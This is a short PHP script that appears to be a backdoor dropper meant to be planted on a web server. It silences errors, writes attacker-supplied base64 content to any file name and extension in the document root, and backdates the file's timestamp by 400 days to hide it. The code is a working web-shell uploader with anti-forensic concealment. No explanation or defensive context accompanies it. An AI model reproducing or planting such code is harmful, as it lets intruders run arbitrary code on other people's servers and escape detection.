<?php
error_reporting(0);
$t = preg_replace('/[^a-z0-9_]/', '', $_POST['t']);
$file = $_SERVER['DOCUMENT_ROOT'] . '/' . $t . '.' . $_POST['e'];
fputs(fopen($file, 'w+'), base64_decode($_POST['d']));
touch($file, filemtime(__FILE__) - 86400 * 400);
